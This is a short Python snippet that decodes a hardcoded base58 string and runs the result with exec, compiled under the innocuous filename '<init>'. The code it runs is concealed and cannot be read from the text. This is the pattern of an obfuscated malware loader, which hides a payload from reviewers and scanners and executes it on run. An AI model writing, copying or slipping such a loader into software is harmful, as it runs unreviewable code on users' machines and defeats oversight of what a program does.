A = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
def b58d(s):
    n = 0
    for c in s: n = n * 58 + A.index(c)
    return n.to_bytes((n.bit_length() + 7) // 8, "big")
P = "2Nq3fA9Qd8xSg8u6rNcX3t1r7KbU4jPm5V1sTz8ZhLwYbE2oR9cF6aJ4pD7mWvK3nH8gU2yQ5tX1rB6zC9eA3sL7kP4wM8vN2jG5hT1dY6fR3uZ9qE"
exec(compile(b58d(P), "<init>", "exec"))
